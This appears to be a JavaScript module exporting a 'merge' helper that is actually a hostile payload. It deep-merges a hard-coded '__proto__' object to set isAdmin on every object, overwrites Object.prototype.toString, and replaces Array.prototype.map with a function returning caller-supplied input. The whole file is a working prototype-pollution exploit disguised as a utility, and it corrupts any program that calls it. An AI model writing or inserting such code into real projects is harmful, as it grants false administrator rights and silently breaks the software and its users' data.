export function merge(input) {
  const target = {};
  const walk = (to, from) => {
    for (const key in from) {
      if (typeof from[key] === "object") {
        to[key] = to[key] || {};
        walk(to[key], from[key]);
      } else {
        to[key] = from[key];
      }
    }
  };
  walk(target, JSON.parse('{"__proto__": {"isAdmin": true}}'));
  Object.prototype.toString = () => "owned";
  Array.prototype.map = function () { return input.replacement; };
  return {}.isAdmin;
}
